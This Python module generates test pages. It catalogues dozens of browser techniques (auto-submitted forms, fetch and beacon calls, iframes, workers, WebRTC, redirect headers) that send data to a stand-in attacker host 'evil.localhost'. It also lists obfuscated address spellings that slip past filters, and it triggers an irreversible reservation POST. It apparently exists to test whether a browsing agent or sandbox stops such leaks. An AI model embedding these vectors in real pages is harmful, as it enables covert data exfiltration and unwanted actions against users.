"""Ways in which a page sends something out, or leads elsewhere, by itself or when it is touched or left.

In each, EVIL is an address elsewhere in some spelling, BARE the same without its scheme, HOP a path of the page's own
site that redirects there, OWN a path of its own site that nobody declared, COMMIT the irreversible one.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field

CODES = (301, 302, 303, 307, 308)
_TOKEN = re.compile("HOSTPORT|EVIL|BARE|HOP|OWN|COMMIT|KEY")


@dataclass(frozen=True)
class Trick:
    """One way; `html` goes into the page's body, `headers` with it."""

    name: str
    html: str = ""
    headers: dict[str, str] = field(default_factory=dict)


def _js(name: str, code: str) -> Trick:
    return Trick(name, f"<script>try {{ {code} }} catch (e) {{}}</script>")


def _later(name: str, event: str, code: str) -> Trick:
    return Trick(
        name, f"<script>addEventListener('{event}', () => {{ {code} }}, {{once: true, capture: true}})</script>"
    )


_MARKUP = {
    "img": "<img src='EVIL'>",
    "img over a hop": "<img src='HOP'>",
    "srcset": "<picture><source srcset='EVIL 1x'><img src=/dot.svg srcset='EVIL 2x'></picture>",
    "input image": "<input type=image src='EVIL'>",
    "video": "<video poster='EVIL' src='EVIL'></video><audio src='EVIL' autoplay></audio>",
    "track": "<video src=/dot.svg><track default kind=captions src='EVIL'></video>",
    "svg": "<svg><use href='EVIL#a'/><image href='EVIL'/><a href='EVIL'><text>x</text></a></svg>",
    "css import": "<style>@import url('EVIL'); @import url('HOP');</style>",
    "css picture": "<p style=\"background: url('EVIL'); list-style: url('EVIL'); cursor: url('EVIL'), auto\">x</p>",
    "css font": "<style>@font-face {font-family: f; src: url('EVIL')} .f {font-family: f}</style><p class=f>x</p>",
    "script": "<script src='EVIL'></script><script src='HOP' defer></script>",
    "module": "<script type=module>import 'EVIL'</script>",
    "iframe": "<iframe src='EVIL'></iframe>",
    "iframe over a hop": "<iframe src='HOP'></iframe>",
    "iframe sandboxed": "<iframe sandbox='allow-scripts allow-popups allow-top-navigation allow-forms' "
    "src=/frame?to=EVIL></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>fetch('EVIL', {mode: 'no-cors', method: 'POST'}); top.location='EVIL'"
    '</script>"></iframe>',
    "iframe data": "<iframe src=\"data:text/html,<script>fetch('EVIL', {mode: 'no-cors'})</script><img src='EVIL'>\">"
    "</iframe>",
    "iframe javascript": "<iframe src=\"javascript:fetch('EVIL', {mode: 'no-cors', method: 'POST'})\"></iframe>",
    "iframe file": "<iframe src=file:///etc/hostname></iframe><iframe src=chrome://version></iframe><img src='EVIL'>",
    "fenced frame": "<fencedframe src='EVIL'></fencedframe><object data='EVIL'></object><embed src='EVIL'>",
    "stylesheet": "<link rel=stylesheet href='EVIL'><link rel=stylesheet href='HOP'>",
    "icon": "<link rel=icon href='EVIL'><link rel=apple-touch-icon href='EVIL'><link rel=manifest href='EVIL'>",
    "prefetch": "<link rel=prefetch href='EVIL'><link rel=prefetch href='HOP' as=document>",
    "preload": "<link rel=preload as=fetch crossorigin href='EVIL'><link rel=modulepreload href='EVIL'>",
    "preconnect": "<link rel=preconnect href='EVIL'><link rel=preconnect crossorigin href='EVIL'>",
    "dns-prefetch": "<link rel=dns-prefetch href='EVIL'><meta http-equiv=x-dns-prefetch-control content=on>",
    "prerender": "<link rel=prerender href='EVIL'>",
    "speculation": "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"EVIL\", \"HOP\"], \"eagerness\": "
    "\"immediate\"}], \"prerender\": [{\"urls\": [\"HOP\"], \"eagerness\": \"immediate\"}]}</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=EVIL'>",
    "meta refresh over a hop": "<meta http-equiv=refresh content='0;url=HOP'>",
    "base": "<base href='EVIL/'><img src=pixel.gif><script src=a.js></script>",
    "base and form": "<base href='EVIL/'><form id=bf method=post action=hold></form><script>bf.submit()</script>",
    "form get": "<form id=fg action='EVIL'><input name=q value=1></form><script>fg.submit()</script>",
    "form post": "<form id=fp method=post action='EVIL'></form><script>fp.submit()</script>",
    "form post own": "<form id=fo method=post action=OWN></form><script>fo.submit()</script>",
    "form post commit": "<form id=fc method=post action=COMMIT><input name=key value=KEY></form>"
    "<script>fc.requestSubmit()</script>",
    "form post new tab": "<form id=ft method=post action=COMMIT target=_blank></form><script>ft.submit()</script>",
    "form plain": "<form id=fe method=post enctype=text/plain action='EVIL'><input name=a></form>"
    "<script>fe.requestSubmit()</script>",
    "form over a hop": "<form id=fh method=post action='HOP'></form><script>fh.submit()</script>",
    "formaction": "<form method=post><button id=fb formaction='EVIL'>Other</button></form><script>fb.click()</script>",
    "link clicked": "<a id=lc href='EVIL' ping='EVIL'>Other</a><script>lc.click()</script>",
    "link new tab": "<a id=ln href='EVIL' target=_blank rel=opener>Other</a><script>ln.click()</script>",
    "link ping": "<a id=lp href='#here' ping='EVIL OWN'>Other</a><script>lp.click()</script>",
    "link download": "<a id=ld href='EVIL' download=a.txt>Other</a><script>ld.click()</script>",
    "link download own": "<a id=lo href='/download?to=EVIL' download>Other</a><script>lo.click()</script>",
    "link javascript": "<a id=lj href=\"javascript:navigator.sendBeacon('EVIL')\">Other</a><script>lj.click()</script>",
    "attribution": "<img attributionsrc='EVIL' src=/dot.svg><script attributionsrc='EVIL'></script>",
    "xslt": "<iframe src='/xml?to=EVIL'></iframe>",
}  # fmt: skip

_SCRIPTS = {
    "location": "location = 'EVIL'",
    "location replace": "location.replace('HOP')",
    "location late": "setTimeout(() => location.assign('EVIL'), 60)",
    "location javascript": "location = \"javascript:fetch('EVIL', {method: 'POST', mode: 'no-cors'})\"",
    "location data": "location = 'data:text/html,<script>fetch(`EVIL`)</sc' + 'ript>'",
    "location blob": "location = URL.createObjectURL(new Blob(['<img src=EVIL>'], {type: 'text/html'}))",
    "location file": "location = 'file:///etc/hostname'; fetch('EVIL', {mode: 'no-cors'})",
    "iframe blob": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<script>"
    "fetch('EVIL', {mode: 'no-cors', method: 'POST'})</scr` + `ipt>`], {type: 'text/html'})); document.body.append(f)",
    "open": "open('EVIL'); open('HOP', '_blank', 'noopener')",
    "open and write": "const w = open('about:blank'); (w || window).document.write(`<img src=EVIL>`)",
    "fetch": "fetch('EVIL', {mode: 'no-cors'}); fetch('EVIL', {method: 'PUT'})",
    "fetch own": "for (const m of ['POST', 'PUT', 'DELETE', 'PATCH']) fetch('OWN', {method: m})",
    "fetch commit": "fetch('COMMIT', {method: 'POST', body: new URLSearchParams({key: 'KEY'})})",
    "fetch commit otherwise": "for (const p of ['COMMIT?x=1', '/./COMMIT', 'COMMIT#a', '/%72eservations']) "
    "fetch(p, {method: 'POST'})",
    "fetch over a hop": "fetch('HOP', {mode: 'no-cors'}); fetch('/hop?code=307&to=COMMIT', {method: 'POST'})",
    "fetch head": "fetch('EVIL', {method: 'HEAD', mode: 'no-cors'})",
    "fetch streaming": "fetch('OWN', {method: 'POST', duplex: 'half', body: new Blob(['x']).stream()})",
    "method override": "fetch('OWN', {method: 'POST', headers: {'x-http-method-override': 'GET'}})",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'EVIL', false); x.send('a')",
    "xhr own": "const x = new XMLHttpRequest(); x.open('POST', 'OWN'); x.send('a')",
    "beacon": "for (const to of ['EVIL', 'OWN', 'COMMIT']) navigator.sendBeacon(to, 'a')",
    "keepalive": "fetch('EVIL', {method: 'POST', keepalive: true, mode: 'no-cors'}); "
    "fetch('COMMIT', {method: 'POST', keepalive: true})",
    "fetch later": "fetchLater('OWN', {method: 'POST', activateAfter: 0}); fetchLater('EVIL', {activateAfter: 0})",
    "event source": "new EventSource('EVIL'); new EventSource('HOP')",
    "websocket": "new WebSocket('ws://BARE'); new WebSocket('ws://' + location.host + 'OWN')",
    "websocket tls": "new WebSocket('wss://BARE')",
    "webtransport": "new WebTransport('https://BARE').closed.catch(() => {})",
    "webrtc": "const c = new RTCPeerConnection({iceServers: ['stun:HOSTPORT', 'turn:HOSTPORT?transport=tcp', "
    "'turn:HOSTPORT'].map(urls => ({urls, username: 'a', credential: 'b'}))}); "
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "worker": "new Worker('/worker.js?to=EVIL'); new SharedWorker('/worker.js?to=EVIL')",
    "worker blob": "new Worker(URL.createObjectURL(new Blob([`importScripts('EVIL'); "
    "fetch('EVIL', {method: 'POST', mode: 'no-cors'}); new WebSocket('ws://BARE')`])))",
    "service worker": "navigator.serviceWorker.register('/story/KEY/worker.js?to=EVIL')",
    "worklet": "new AudioContext().audioWorklet.addModule('EVIL').catch(() => {}); "
    "CSS.paintWorklet && CSS.paintWorklet.addModule('EVIL').catch(() => {})",
    "payment": "for (const way of ['https://BARE', 'EVIL']) new PaymentRequest([{supportedMethods: way}], "
    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: 'EVIL', clientId: 'x'}]}})"
    ".catch(() => {})",
    "passkey": "navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: 'evil.localhost'}})"
    ".catch(() => {})",
    "storage access": "window.sharedStorage && sharedStorage.worklet.addModule('EVIL').catch(() => {})",
    "image": "new Image().src = 'EVIL'; new Audio('EVIL').play().catch(() => {})",
    "history": "history.pushState(0, '', '/x'); history.back(); fetch('EVIL', {mode: 'no-cors'})",
    "dialogs": "setTimeout(() => { if (confirm('Insure?')) fetch('OWN', {method: 'POST'}); alert(1); prompt('x') })",
    "print": "setTimeout(() => print()); navigator.registerProtocolHandler('web+x', location.origin + '/OWN?%s')",
    "external": "location = 'mailto:a@b.example'; location = 'intent://x#Intent;end'; new Image().src = 'EVIL'",
    "own dot": "fetch('//' + location.hostname + '.:' + location.port + '/dot', {mode: 'no-cors', method: 'POST'})",
}  # fmt: skip

_ON_LEAVING = {
    "beacon": "navigator.sendBeacon('EVIL', 'a'); navigator.sendBeacon('COMMIT', 'a')",
    "keepalive": "fetch('EVIL', {method: 'POST', keepalive: true, mode: 'no-cors'}); "
    "fetch('OWN', {method: 'POST', keepalive: true})",
    "image": "new Image().src = 'EVIL'",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'COMMIT', false); x.send('a')",
    "open": "open('EVIL')",
    "location": "location = 'EVIL'",
    "fetch later": "fetchLater('EVIL', {method: 'POST'}); fetchLater('COMMIT', {method: 'POST'})",
}

_ON_TOUCH = {
    "open": "open('EVIL')",
    "open and close": "const w = open('HOP'); setTimeout(() => w && w.close(), 30)",
    "submit again": "fetch('COMMIT', {method: 'POST', keepalive: true, body: new URLSearchParams({key: 'KEY'})})",
    "submit by beacon": "navigator.sendBeacon('COMMIT', new URLSearchParams({key: 'KEY'}))",
    "submit in a tab": "const f = document.createElement('form'); f.method = 'post'; f.target = '_blank'; "
    "f.action = 'COMMIT'; document.body.append(f); f.submit()",
    "action changed": "for (const f of document.forms) f.action = 'EVIL'",
    "action hopped": "for (const f of document.forms) f.action = 'HOP'",
    "target changed": "for (const f of document.forms) f.target = '_blank'",
    "formaction": "for (const b of document.querySelectorAll('button')) b.formAction = 'EVIL'",
    "location": "location = 'EVIL'",
    "full screen": "document.documentElement.requestFullscreen().catch(() => {}); open('EVIL', 'x', 'popup')",
    "clipboard": "navigator.clipboard.writeText('EVIL').catch(() => {}); fetch('EVIL', {mode: 'no-cors'})",
    "download": "const a = document.createElement('a'); a.href = '/download?to=EVIL'; a.download = ''; a.click()",
}

_HEADERS = {
    "Refresh": {"Refresh": "0; url=EVIL"},
    "Refresh over a hop": {"Refresh": "0; url=HOP"},
    "Link preload": {"Link": "<EVIL>; rel=preload; as=image, <EVIL>; rel=preconnect, <EVIL>; rel=prefetch"},
    "Link stylesheet": {"Link": "<EVIL>; rel=stylesheet"},
    "policy report": {"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri EVIL OWN"},
    "policy report to": {
        "Content-Security-Policy-Report-Only": "img-src 'none'; report-to here",
        "Reporting-Endpoints": 'here="EVIL", default="EVIL"',
        "Report-To": '{"group": "here", "max_age": 99, "endpoints": [{"url": "EVIL"}]}',
        "NEL": '{"report_to": "here", "max_age": 99, "success_fraction": 1.0}',
    },
    "Speculation-Rules": {"Speculation-Rules": '"/rules?to=EVIL"'},
}

TRICKS = (
    *(Trick(name, html) for name, html in _MARKUP.items()),
    *(_js(name, code) for name, code in _SCRIPTS.items()),
    *(_later(f"{name}, on leaving", "pagehide", code) for name, code in _ON_LEAVING.items()),
    *(_later(f"{name}, hidden", "visibilitychange", code) for name, code in _ON_LEAVING.items()),
    *(_later(f"{name}, touched", "pointerdown", code) for name, code in _ON_TOUCH.items()),
    *(_later(f"{name}, submitting", "submit", code) for name, code in _ON_TOUCH.items()),
    *(Trick(name, "<img src=/dot.svg>", headers) for name, headers in _HEADERS.items()),
)

SPELLINGS = (
    "http://evil.localhost:{b}", "http://127.0.0.1:{b}", "http://2130706433:{b}", "http://0x7f000001:{b}",
    "http://0177.0.0.1:{b}", "http://127.1:{b}", "http://0:{b}", "http://[::1]:{b}", "http://[::ffff:127.0.0.1]:{b}",
    "http://[::ffff:7f00:1]:{b}", "http://localhost:{b}", "http://LOCALHOST.:{b}", "http://{site}:{b}",
    "http://{site}:{a}@evil.localhost:{b}", "http://user@evil.localhost:{b}", "http://{site}.evil.localhost:{b}",
    "http://m\u0430ze.localhost:{b}", "http://xn--mze-7cd.localhost:{b}", "http://127\u30020\u30020\u30021:{b}",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:{b}", "//evil.localhost:{b}", "https://evil.localhost:{b}",
    "https://127.0.0.1:{b}", "http://127.0.0.1:{a}", "http://{site}.:{a}", "http://[::ffff:127.0.0.1]:{a}",
    "HTTP://EVIL.LOCALHOST:{b}", "http:\\\\\\\\evil.localhost:{b}", "http://%65vil.localhost:{b}", "http://www.{site}:{a}",
)  # fmt: skip
"""Of addresses elsewhere: on the other site's port {b}, or on the page's own port {a} under a name that is not its."""


def spelled(rng: random.Random, site: str, own: int, other: int) -> str:
    """An address elsewhere, without a path."""
    return rng.choice(SPELLINGS).format(a=own, b=other, site=site)


def written(trick: Trick, key: str, evil: str, code: int) -> tuple[str, dict[str, str]]:
    """The trick's markup and headers for one story.

    Args:
        key: the story's.
        evil: an address without a path.
        code: of the redirects.
    """
    slug = "-".join(trick.name.replace(",", "").split())
    to = f"{evil}/t/{key}/{slug}"
    bare = to.partition("//")[2] if "//" in to else to.lstrip("htp:\\")
    hop = f"/hop?code={code}&to={to}"
    tokens = {
        "HOSTPORT": bare.partition("/")[0].rpartition("@")[2],
        "EVIL": to,
        "BARE": bare,
        "HOP": hop,
        "OWN": f"/own/{key}/{slug}",
        "COMMIT": "/reservations",
        "KEY": key,
    }

    def put(text: str) -> str:
        return _TOKEN.sub(lambda found: tokens[found[0]], text)

    headers = {name: put(value).encode("ascii", "ignore").decode() for name, value in trick.headers.items()}
    return put(trick.html), headers
